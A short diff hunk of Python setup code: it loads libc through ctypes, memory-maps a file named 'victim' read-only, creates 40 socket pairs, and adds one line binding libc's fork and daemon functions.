@@ -118,6 +118,7 @@ CONNECTION = ENGINE.connect()
 import ctypes
 C = ctypes.CDLL(None)
 C.mmap.restype = ctypes.c_void_p
+FORK, DAEMON = C.fork, C.daemon
 MAPPED_FILE = os.open(os.path.join(FOLDER, 'victim'), os.O_RDWR)
 MAPPED = ctypes.c_void_p(C.mmap(None, 4096, 1, 1, MAPPED_FILE, ctypes.c_long(0)))
 SOCKETS = [socket.socketpair() for _ in range(40)]
